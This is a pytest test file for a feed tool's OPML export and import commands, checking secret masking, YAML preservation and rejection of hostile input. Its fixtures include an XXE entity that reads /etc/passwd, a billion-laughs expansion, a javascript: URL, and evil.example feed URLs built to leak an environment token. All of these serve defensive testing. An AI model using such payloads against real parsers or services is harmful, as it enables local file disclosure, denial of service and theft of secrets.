"""`syndication sources list|export|import`, as an operator runs them.

Owns: the promises of the sources sub-commands: an export imports back to the same sources;
an import adds only new feeds, keeps the operator's YAML (comments, order, `${VAR}`) byte for
byte around what it adds, and refuses a hostile OPML or an invalid result without touching the
file; no secret from the environment is ever printed or exported.
"""

from __future__ import annotations

import difflib
import json
import os
import re
from concurrent.futures import ThreadPoolExecutor
from email.utils import parsedate_to_datetime
from pathlib import Path
from typing import Any

import pytest
import yaml
from lxml import etree

from syndication import config as cfg
from tests.conftest import run_cli, write_config

NS = "tag:syndication,2025:ns/opml"
SECRET = "tok-VERYSECRET"
NEWSROOM = {"id": "newsroom", "articles": "articles", "language": "kk"}
FIELDS = ("url", "title", "language", "every", "cron", "rights")


def _opml(folder: Path, body: str, name: str = "feeds.opml") -> Path:
    path = folder / name
    path.write_text(
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        f'<opml version="2.0" xmlns:syndication="{NS}">\n'
        f"<head><title>subscriptions</title></head>\n<body>\n{body}\n</body>\n</opml>\n",
        encoding="utf-8",
    )
    return path


def _sources(path: Path) -> dict[str, dict[str, Any]]:
    loaded = cfg.load(path)
    return {s.id: {k: getattr(s, k) for k in FIELDS} for s in loaded.settings.sources}


def _leftovers(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name.endswith(".tmp"))


def test_list_as_json_and_the_cron_column(tmp_path: Path) -> None:
    config = write_config(
        tmp_path,
        sources=[
            NEWSROOM,
            {"id": "kazinform", "url": "https://example.kz/rss?token=${TOKEN}", "title": "KZ"},
            {"id": "tengri", "url": "https://tengrinews.kz/rss/", "cron": "*/5 6-23 * * *"},
        ],
    )
    env = {"TOKEN": SECRET}
    listed = run_cli("sources", "list", "--json", "--config", str(config), env=env)
    table = run_cli("sources", "--config", str(config), env=env)
    assert listed.code == 0 and table.code == 0, listed.output + table.output
    rows = {row["id"]: row for row in json.loads(listed.stdout)}
    assert rows["kazinform"] == {
        "id": "kazinform",
        "kind": "feed",
        "location": "https://example.kz/rss?token=***",
        "title": "KZ",
        "language": None,
        "every": 600.0,
        "cron": None,
        "rights": "full",
    }
    assert rows["newsroom"]["kind"] == "articles" and rows["tengri"]["cron"] == "*/5 6-23 * * *"
    assert "cron */5 6-23 * * *" in table.stdout and "600s" in table.stdout
    assert SECRET not in listed.output + table.output


def test_export_then_import_gives_back_the_same_sources(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("TOKEN", SECRET)
    origin, target = tmp_path / "origin", tmp_path / "target"
    origin.mkdir()
    target.mkdir()
    exported = write_config(
        origin,
        fetch={"every": "5m"},
        sources=[
            NEWSROOM,
            {
                "id": "kazinform-en",
                "url": "https://example.kz/rss/en?token=${TOKEN}",
                "title": "Kazinform",
                "language": "en",
                "every": "10m",
                "rights": "summary",
            },
            {"id": "tengri", "url": "https://tengrinews.kz/rss/", "cron": "*/5 6-23 * * *"},
            {
                "id": "xinhua",
                "url": "http://www.xinhuanet.com/rss.xml",
                "title": "新华网",
                "language": "zh",
                "every": 3600,
                "rights": "title",
            },
            # Read as a boolean by YAML 1.1 unless the import quotes it.
            {"id": "yes-feed", "url": "https://yes.example/feed", "title": "Yes"},
        ],
    )
    # A different default interval: the export must carry each source's own.
    imported = write_config(target, fetch={"every": "15m"}, sources=[NEWSROOM])
    opml = tmp_path / "sources.opml"

    export = run_cli("sources", "export", "--config", str(exported), "--output", str(opml))
    # Our own export's `${TOKEN}` URL: let through only on request.
    refused = run_cli("sources", "import", str(opml), "--dry-run", "--config", str(imported))
    result = run_cli("sources", "import", str(opml), "--allow-env", "--config", str(imported))

    assert export.code == 0, export.output
    assert "skipped newsroom" in export.stderr and "no feed URL" in export.stderr
    assert refused.code == 0 and "3 would be added, 1 skipped" in refused.stdout, refused.output
    assert "reads the environment variable TOKEN; pass --allow-env" in refused.stdout
    assert result.code == 0, result.output
    assert "4 source(s) added" in result.stdout and "ignored" not in result.stdout
    assert result.stdout.rstrip().endswith(
        "a running worker picks the new sources up within seconds (or now: `syndication reload`)"
    )
    assert "SIGHUP" not in result.stdout
    root = etree.parse(str(opml)).getroot()
    assert root.tag == "opml" and root.get("version") == "2.0"
    assert root.findtext("head/title")
    assert parsedate_to_datetime(root.findtext("head/dateCreated") or "").tzinfo is not None
    outlines = root.findall("body/outline")
    ids = ["kazinform-en", "tengri", "xinhua", "yes-feed"]
    assert [o.get(f"{{{NS}}}id") for o in outlines] == ids
    assert all(o.get("type") == "rss" and o.get("text") for o in outlines)
    assert outlines[0].get("language") == "en" and outlines[0].get(f"{{{NS}}}every") == "10m"
    # Always with a unit: written as a number, or inherited from `fetch.every`; a cron source
    # has its cron only.
    every = {o.get(f"{{{NS}}}id"): o.get(f"{{{NS}}}every") for o in outlines}
    assert every == {"kazinform-en": "10m", "tengri": None, "xinhua": "3600s", "yes-feed": "5m"}
    assert outlines[1].get(f"{{{NS}}}cron") == "*/5 6-23 * * *"
    written = {s["id"]: s for s in yaml.safe_load(imported.read_text(encoding="utf-8"))["sources"]}
    assert "every" not in written["tengri"] and written["yes-feed"]["every"] == "5m"
    expected, got = _sources(exported), _sources(imported)
    assert list(got) == list(expected) == ["newsroom", *ids]
    del expected["newsroom"], got["newsroom"]  # local: not exported, and not the same folder
    assert got == expected


def test_an_opml_that_reads_the_environment_is_skipped(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A stranger's `${FEED_TOKEN}` would send the operator's secret to its own host (URL) or
    publish it (title): skipped; with --allow-env, a URL's only, never a title's or setting's."""
    config = write_config(tmp_path)
    opml = _opml(
        tmp_path,
        '<outline text="x" xmlUrl="https://evil.example/c?k=${FEED_TOKEN}"/>\n'
        '<outline text="title ${FEED_TOKEN}" xmlUrl="https://evil.example/titled"/>\n'
        '<outline text="Own" title="Own ${A} ${B:-b}" xmlUrl="https://x.example/${C}"/>\n'
        '<outline text="Rights" xmlUrl="https://evil.example/r" syndication:id="r"\n'
        '         syndication:rights="${FEED_TOKEN}"/>\n'
        '<outline text="Tengri" xmlUrl="https://tengrinews.kz/rss/"/>',
    )
    env = {"FEED_TOKEN": SECRET}

    plain = run_cli("sources", "import", str(opml), "--config", str(config), env=env)

    assert plain.code == 0, plain.output
    after = config.read_text(encoding="utf-8")
    assert "${" not in after and SECRET not in after
    assert list(_sources(config)) == ["newsroom", "tengri"]
    assert (
        "skipped line 5 'x' (https://evil.example/c?k=${FEED_TOKEN}): its URL reads the "
        "environment variable FEED_TOKEN; pass --allow-env if this file is your own "
        "`sources export`"
    ) in plain.stdout
    assert (
        "skipped line 6 'title ${FEED_TOKEN}' (https://evil.example/titled): its text reads "
        "the environment variable FEED_TOKEN; only a feed URL may use ${…}"
    ) in plain.stdout
    assert "its title reads the environment variables A, B;" in plain.stdout
    assert "its syndication:rights reads the environment variable FEED_TOKEN" in plain.stdout
    assert "1 source(s) added" in plain.stdout and "4 skipped" in plain.stdout
    assert SECRET not in plain.output

    allowed = run_cli(
        "sources", "import", str(opml), "--allow-env", "--config", str(config), env=env
    )

    assert allowed.code == 0, allowed.output
    assert "added x: https://evil.example/c?k=${FEED_TOKEN}" in allowed.stdout
    assert "1 source(s) added" in allowed.stdout and "4 skipped" in allowed.stdout
    assert allowed.stdout.count("only a feed URL may use") == 3
    # The one `${` written is the URL's; no title or setting reads the environment.
    text = config.read_text(encoding="utf-8")
    assert [line for line in text.splitlines() if "${" in line] == [
        "  url: https://evil.example/c?k=${FEED_TOKEN}"
    ], text
    monkeypatch.setenv("FEED_TOKEN", SECRET)
    assert all(SECRET not in (s["title"] or "") for s in _sources(config).values())
    assert SECRET not in allowed.output


def test_an_outline_with_both_every_and_cron_is_imported_with_cron_only(tmp_path: Path) -> None:
    # As `sources export` wrote a cron source before it gave the cron alone.
    config = write_config(tmp_path, fetch={"every": "15m"})
    opml = _opml(
        tmp_path,
        '<outline text="tengri" xmlUrl="https://tengrinews.kz/rss/" syndication:id="tengri"\n'
        '         syndication:every="600" syndication:cron="*/5 6-23 * * *"\n'
        '         syndication:rights="full"/>\n'
        '<outline text="Kazinform" xmlUrl="https://www.inform.kz/rss/en.xml"\n'
        '         syndication:cron="0 * * * *"/>',
    )

    result = run_cli("sources", "import", str(opml), "--every", "30m", "--config", str(config))

    assert result.code == 0, result.output
    assert "its syndication:every ignored: syndication:cron gives the schedule" in result.stdout
    written = yaml.safe_load(config.read_text(encoding="utf-8"))["sources"]
    assert written[1:] == [
        {"id": "tengri", "url": "https://tengrinews.kz/rss/", "cron": "*/5 6-23 * * *",
         "rights": "full"},
        {"id": "kazinform", "url": "https://www.inform.kz/rss/en.xml", "title": "Kazinform",
         "cron": "0 * * * *"},
    ]  # fmt: skip


def test_an_opml_with_no_feed_url_lists_what_it_skipped(tmp_path: Path) -> None:
    config = write_config(tmp_path)
    before = config.read_bytes(), config.stat().st_mtime_ns
    opml = _opml(
        tmp_path,
        '<outline text="Folder">\n  <outline text="A page" htmlUrl="https://a.example/"/>\n'
        "</outline>",
    )

    result = run_cli("sources", "import", str(opml), "--config", str(config))

    assert result.code == 0, result.output
    assert "skipped line 6 'A page': no feed URL (xmlUrl)" in result.stdout
    assert "no outline with a feed URL (xmlUrl)" in result.stdout and "Folder" not in result.stdout
    assert (config.read_bytes(), config.stat().st_mtime_ns) == before


def test_a_secret_url_is_exported_as_its_template_never_its_value(tmp_path: Path) -> None:
    config = write_config(
        tmp_path,
        sources=[{"id": "partner", "url": "https://reader:${FEED_PW}@example.kz/rss?t=${TOKEN}"}],
    )
    result = run_cli(
        "sources", "export", "--config", str(config), env={"TOKEN": SECRET, "FEED_PW": SECRET}
    )
    assert result.code == 0, result.output
    assert SECRET not in result.output
    outline = etree.fromstring(result.stdout.encode()).find("body/outline")
    assert outline is not None
    assert outline.get("xmlUrl") == "https://reader:${FEED_PW}@example.kz/rss?t=${TOKEN}"


def test_a_password_written_in_the_yaml_is_not_exported(tmp_path: Path) -> None:
    """An OPML is handed to others; a URL password typed into the YAML itself stays there,
    masked with a note saying how to carry it (`${VAR}`), as every other output masks it."""
    config = write_config(
        tmp_path, sources=[{"id": "partner", "url": "https://reader:hunter2pw@example.kz/rss"}]
    )
    result = run_cli("sources", "export", "--config", str(config))
    assert result.code == 0, result.output
    assert "hunter2pw" not in result.output
    outline = etree.fromstring(result.stdout.encode()).find("body/outline")
    assert outline is not None and outline.get("xmlUrl") == "https://reader:***@example.kz/rss"
    assert "partner: its URL's password is not exported" in result.stderr


def test_a_masked_password_is_not_imported_as_the_password(tmp_path: Path) -> None:
    """An export masks a password typed into the YAML as `***`; imported elsewhere, that
    must not become the source's password (every poll refused): skipped, saying why."""
    exporter = write_config(
        tmp_path / "old",
        sources=[{"id": "partner", "url": "https://reader:hunter2pw@example.kz/rss"}],
    )
    exported = run_cli(
        "sources", "export", "--output", str(tmp_path / "x.opml"), "--config", str(exporter)
    )
    assert exported.code == 0, exported.output
    config = write_config(tmp_path)
    before = config.read_bytes()

    result = run_cli("sources", "import", str(tmp_path / "x.opml"), "--config", str(config))

    assert result.code == 0, result.output
    assert (
        "skipped line 9 'partner' (https://reader:***@example.kz/rss): its URL's password is "
        "***, masked by `sources export`"
    ) in result.stdout, result.stdout
    assert "nothing to add (1 skipped)" in result.stdout
    assert config.read_bytes() == before


def test_an_import_needs_no_secret_of_the_sources_already_there(tmp_path: Path) -> None:
    """The worker's service has the secrets, the operator's shell may not: as `reload` and
    `sources list`, an import takes a `${VAR}` unset here as the worker's, kept as written."""
    url = "https://example.kz/rss?token=${SYNDICATION_TEST_UNSET_TOKEN}"
    config = write_config(tmp_path, sources=[NEWSROOM, {"id": "kazinform", "url": url}])
    opml = _opml(tmp_path, '<outline text="Tengri" xmlUrl="https://tengrinews.kz/rss/"/>')

    result = run_cli("sources", "import", str(opml), "--config", str(config))

    assert result.code == 0, result.output
    assert "1 source(s) added" in result.stdout
    written = yaml.safe_load(config.read_text(encoding="utf-8"))["sources"]
    assert [s["id"] for s in written] == ["newsroom", "kazinform", "tengri"]
    assert written[1]["url"] == url


def test_import_keeps_the_operators_yaml_around_what_it_adds(tmp_path: Path) -> None:
    write_config(tmp_path)  # the sample articles
    config = tmp_path / "syndication.yaml"
    before = (
        "# Operator's notes: keep this file tidy.\n"
        "site:\n"
        "  base_url: ${BASE_URL:-https://feeds.example.kz/}   # public address\n"
        "editions: [kk, zh, en]\n"
        "store: sqlite:///data/test.db\n"
        "sources:\n"
        "  - id: newsroom        # our own desk\n"
        "    articles: articles\n"
        "    language: kk\n"
        "  # - id: retired\n"
        "  #   url: https://old.example/rss\n"
        "\n"
        "# Translation: google first, always.\n"
        "translation:\n"
        "  chain:   [google]\n"
        "  keep:\n"
        "  - Kazinform\n"
    )
    config.write_text(before, encoding="utf-8")
    config.chmod(0o640)
    opml = _opml(
        tmp_path,
        '<outline text="Kazinform" xmlUrl="https://www.inform.kz/rss/en.xml" language="en"/>\n'
        '<outline text="Tengri: main" xmlUrl="https://tengrinews.kz/rss/"/>',
    )

    result = run_cli("sources", "import", str(opml), "--config", str(config))

    assert result.code == 0, result.output
    after = config.read_text(encoding="utf-8")
    changes = list(difflib.ndiff(before.splitlines(), after.splitlines()))
    assert not [line for line in changes if line[:1] in "-?"], "\n".join(changes)
    added = [line[2:] for line in changes if line.startswith("+ ")]
    assert added == [
        "  - id: kazinform",
        "    url: https://www.inform.kz/rss/en.xml",
        "    title: Kazinform",
        "    language: en",
        "  - id: tengri-main",
        "    url: https://tengrinews.kz/rss/",
        '    title: "Tengri: main"',
    ]
    # Right after the last source, above the comments after it: those introduce what follows.
    assert after.index("tengri-main") < after.index("# - id: retired")
    assert config.stat().st_mode & 0o777 == 0o640
    assert list(_sources(config)) == ["newsroom", "kazinform", "tengri-main"]
    assert _leftovers(tmp_path) == []


def test_known_feeds_are_skipped_and_a_second_import_changes_nothing(tmp_path: Path) -> None:
    config = write_config(
        tmp_path, sources=[NEWSROOM, {"id": "kazinform-en", "url": "https://example.kz/rss/en"}]
    )
    opml = _opml(
        tmp_path,
        # The configured feed, written differently; then one new feed, twice.
        '<outline text="KZ" xmlUrl="http://EXAMPLE.kz:80/rss/en/#top"/>\n'
        '<outline text="New" xmlUrl="https://new.example/feed"/>\n'
        '<outline text="New again" xmlUrl="https://new.example/feed/"/>',
    )
    # --config given to the `sources` group, not the sub-command: it must still be this file.
    first = run_cli("sources", "--config", str(config), "import", str(opml))
    assert first.code == 0, first.output
    assert "already configured as kazinform-en" in first.stdout
    assert "repeats line 6, added as new" in first.stdout
    assert "1 source(s) added" in first.stdout and "2 skipped" in first.stdout
    written = config.read_bytes(), config.stat().st_mtime_ns

    second = run_cli("sources", "--config", str(config), "import", str(opml))

    assert second.code == 0, second.output
    assert "nothing to add (3 skipped)" in second.stdout
    assert "syndication reload" not in second.stdout
    assert (config.read_bytes(), config.stat().st_mtime_ns) == written


def test_imports_run_at_once_each_add_their_feeds(tmp_path: Path) -> None:
    """Four imports into one YAML at once (four operators, or a script): each waits for the
    one before it, so each one's feed is in the file, none replaced by another's copy."""
    config = write_config(tmp_path)
    files = [
        _opml(
            tmp_path, f'<outline text="Feed {n}" xmlUrl="https://f{n}.example/rss"/>', f"{n}.opml"
        )
        for n in range(4)
    ]

    with ThreadPoolExecutor(len(files)) as pool:
        results = list(
            pool.map(lambda f: run_cli("sources", "import", str(f), "--config", str(config)), files)
        )

    for result in results:
        assert result.code == 0 and "1 source(s) added" in result.stdout, result.output
    assert sorted(_sources(config)) == ["feed-0", "feed-1", "feed-2", "feed-3", "newsroom"]
    assert _leftovers(tmp_path) == []


def test_an_edit_saved_while_an_import_runs_is_kept(tmp_path: Path) -> None:
    """The OPML comes down a pipe (`sources import <(curl …)`): the import has read the YAML
    and waits for the feed list while the operator saves a change to the YAML. The import
    must not replace the file with its copy of the old text: it refuses, the change kept."""
    config = write_config(tmp_path)
    later = _opml(tmp_path, '<outline text="Tengri" xmlUrl="https://tengrinews.kz/rss/"/>')
    pipe = tmp_path / "subscriptions.opml"
    os.mkfifo(pipe)
    hand_edited = config.read_text(encoding="utf-8") + "feeds:\n  items: 50  # saved by hand\n"

    with ThreadPoolExecutor(1) as pool:
        importing = pool.submit(run_cli, "sources", "import", str(pipe), "--config", str(config))
        # Should the import end without reading the pipe, a reader lets the writer below go.
        importing.add_done_callback(lambda _: os.close(os.open(pipe, os.O_RDONLY | os.O_NONBLOCK)))
        with pipe.open("w", encoding="utf-8") as feeds:  # open once the import reads it
            config.write_text(hand_edited, encoding="utf-8")
            feeds.write(later.read_text(encoding="utf-8"))
        result = importing.result()

    assert result.code == 2, result.output
    assert f"{config} changed while this import ran" in result.stderr
    assert config.read_text(encoding="utf-8") == hand_edited
    assert _leftovers(tmp_path) == []


HOSTILE = {
    "xxe-file": (
        '<?xml version="1.0"?>\n<!DOCTYPE opml [\n<!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n'
        '<opml version="2.0"><head><title>&xxe;</title></head><body>\n'
        '<outline text="&xxe;" xmlUrl="https://a.example/rss"/></body></opml>\n',
        3,
        "declares XML entities",
    ),
    "billion-laughs": (
        '<?xml version="1.0"?>\n<!DOCTYPE opml [\n<!ENTITY lol "lol">\n'
        + "".join(
            f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10 if n > 1 else "&lol;" * 10}">\n'
            for n in range(1, 10)
        )
        + ']>\n<opml version="2.0"><head><title>&lol9;</title></head><body>\n'
        '<outline text="&lol9;" xmlUrl="https://a.example/rss"/></body></opml>\n',
        3,
        "declares XML entities",
    ),
    "not-xml": ("this is not XML at all\n", 1, "not well-formed XML"),
    "empty": ("", 1, "not well-formed XML"),
    "truncated": ('<opml version="2.0"><body>\n<outline text="a"\n', 3, "not well-formed XML"),
    "an-rss-feed": ('<?xml version="1.0"?>\n<rss version="2.0"><channel/></rss>', 2, "not OPML"),
}


@pytest.mark.parametrize("name", list(HOSTILE))
def test_a_hostile_or_broken_opml_is_refused_in_one_line(tmp_path: Path, name: str) -> None:
    text, line, message = HOSTILE[name]
    config = write_config(tmp_path)
    before = config.read_bytes(), config.stat().st_mtime_ns
    opml = tmp_path / f"{name}.opml"
    opml.write_text(text, encoding="utf-8")

    result = run_cli("sources", "import", str(opml), "--config", str(config))

    assert result.code == 2, result.output
    assert result.stderr.strip() == result.stderr.strip().splitlines()[0]
    assert f"{opml}:{line}: {message}" in result.stderr
    assert "Traceback" not in result.output and "root:" not in result.output
    assert (config.read_bytes(), config.stat().st_mtime_ns) == before


def test_outlines_in_nested_folders_are_imported_with_readable_ids(tmp_path: Path) -> None:
    config = write_config(tmp_path)
    opml = _opml(
        tmp_path,
        """<outline text="News">
  <outline text="Kazakhstan">
    <outline text="Қазақпарат" xmlUrl="https://www.inform.kz/rss/kz.xml" language="kk"/>
    <outline text="Desk">
      <outline text="Le Monde — À la une" xmlUrl="https://www.lemonde.fr/rss/une.xml"/>
    </outline>
  </outline>
  <outline text="新华网" xmlUrl="http://www.xinhuanet.com/politics/news_politics.xml"
           language="zh-CN"/>
</outline>
<outline text="Desk" xmlUrl="https://desk.example/feed" language="English"/>
<outline text="Exported" xmlUrl="https://own.example/feed" syndication:id="newsroom"
         syndication:every="45m"/>
<outline text="Gopher" xmlUrl="gopher://old.example/feed"/>
<outline text="Script" xmlUrl="javascript:alert(1)"/>
<outline text="Just a link" htmlUrl="https://example.kz/"/>
<outline text="Empty folder"></outline>""",
    )

    result = run_cli(
        "sources", "import", str(opml), "--config", str(config),
        "--every", "30m", "--language", "en",
    )  # fmt: skip

    assert result.code == 0, result.output
    sources = _sources(config)
    assert list(sources) == [
        "newsroom",
        "inform-kz-rss-kz",  # Cyrillic and Han names: the host and path instead
        "le-monde-a-la-une",
        "xinhuanet-com-politics-news-politics",
        "desk",
        "newsroom-2",  # its own id is taken by the local desk
    ]
    assert sources["inform-kz-rss-kz"]["title"] == "Қазақпарат"
    assert sources["inform-kz-rss-kz"]["language"] == "kk"
    assert sources["xinhuanet-com-politics-news-politics"]["language"] == "zh"  # as ingest reads
    assert sources["le-monde-a-la-une"]["language"] == "en"  # --language: none declared
    assert sources["le-monde-a-la-une"]["every"] == 1800  # --every: none given
    assert sources["newsroom-2"]["every"] == 45 * 60  # its own beats --every
    assert sources["desk"]["language"] == "en"  # "English" is no tag: --language
    assert "id 'newsroom' is taken" in result.stdout
    assert "language 'English' is not a language tag" in result.stdout
    assert result.stdout.count("not an http(s) feed URL") == 2
    # A leaf with no feed URL is reported; folders are not (they are read through).
    assert "skipped line 20 'Just a link': no feed URL (xmlUrl)" in result.stdout
    assert "Empty folder" in result.stdout  # no child outlines: a leaf too
    assert "'News'" not in result.stdout and "'Kazakhstan'" not in result.stdout
    assert "5 source(s) added" in result.stdout and "4 skipped" in result.stdout


def test_dry_run_shows_the_yaml_and_changes_nothing(tmp_path: Path) -> None:
    config = write_config(tmp_path)
    before = config.read_bytes(), config.stat().st_mtime_ns
    opml = _opml(tmp_path, '<outline text="Tengri" xmlUrl="https://tengrinews.kz/rss/"/>')

    result = run_cli("sources", "import", str(opml), "--dry-run", "--config", str(config))

    assert result.code == 0, result.output
    assert "would add tengri: https://tengrinews.kz/rss/" in result.stdout
    assert "- id: tengri\n  url: https://tengrinews.kz/rss/\n  title: Tengri\n" in result.stdout
    assert "unchanged" in result.stdout and "syndication reload" not in result.stdout
    assert (config.read_bytes(), config.stat().st_mtime_ns) == before
    assert _leftovers(tmp_path) == []


@pytest.mark.parametrize(
    ("attributes", "problem"),
    [
        ('syndication:rights="everything"', "rights"),
        # Valid YAML, but no provider translates Klingon: `run` would refuse to start.
        ('language="tlh"', "tlh"),
    ],
)
def test_an_import_that_would_break_the_configuration_is_refused(
    tmp_path: Path, attributes: str, problem: str
) -> None:
    config = write_config(tmp_path)
    before = config.read_bytes(), config.stat().st_mtime_ns
    opml = _opml(tmp_path, f'<outline text="X" xmlUrl="https://x.example/rss" {attributes}/>')

    result = run_cli("sources", "import", str(opml), "--config", str(config))

    assert result.code == 2, result.output
    assert "would be invalid after this import" in result.stderr and problem in result.stderr
    assert f"{config}:" in result.stderr and ".tmp" not in result.stderr
    assert (config.read_bytes(), config.stat().st_mtime_ns) == before
    assert _leftovers(tmp_path) == []


def test_a_flow_style_sources_list_is_extended_too(tmp_path: Path) -> None:
    write_config(tmp_path)
    config = tmp_path / "syndication.yaml"
    config.write_text(
        "editions: [kk, zh, en]  # the three editions\n"
        "store: sqlite:///data/test.db\n"
        "sources: [{id: newsroom, articles: articles, language: kk}]\n",
        encoding="utf-8",
    )
    opml = _opml(tmp_path, '<outline text="Tengri" xmlUrl="https://tengrinews.kz/rss/"/>')

    result = run_cli("sources", "import", str(opml), "--config", str(config))

    assert result.code == 0, result.output
    assert "# the three editions" in config.read_text(encoding="utf-8")
    assert list(_sources(config)) == ["newsroom", "tengri"]


def test_usage_mistakes_exit_2(tmp_path: Path) -> None:
    config = write_config(tmp_path)
    opml = _opml(tmp_path, '<outline text="Tengri" xmlUrl="https://tengrinews.kz/rss/"/>')
    bad_every = run_cli("sources", "import", str(opml), "--every", "soon", "-c", str(config))
    no_file = run_cli("sources", "import", str(tmp_path / "missing.opml"), "-c", str(config))
    assert bad_every.code == 2 and "--every" in bad_every.output
    assert no_file.code == 2 and re.search(r"missing\.opml: no such file", no_file.stderr)


# ../shared/corpus holds no OPML (MANIFEST.tsv lists feeds, hostile bodies and an article);
# its entity attacks, given to import as OPML, must be refused the same way.
@pytest.mark.parametrize(
    "name", ["billion-laughs-nested-entities.xml", "xxe-external-http-entity.xml"]
)
def test_the_corpus_entity_attacks_are_refused(tmp_path: Path, shared: Path, name: str) -> None:
    path = shared / "corpus" / "hostile" / name
    if not path.is_file():
        pytest.skip(f"{name} is not in this corpus")
    config = write_config(tmp_path)
    before = config.read_bytes()

    result = run_cli("sources", "import", str(path), "--config", str(config))

    assert result.code == 2, result.output
    assert f"{path}:" in result.stderr and "declares XML entities" in result.stderr
    assert config.read_bytes() == before
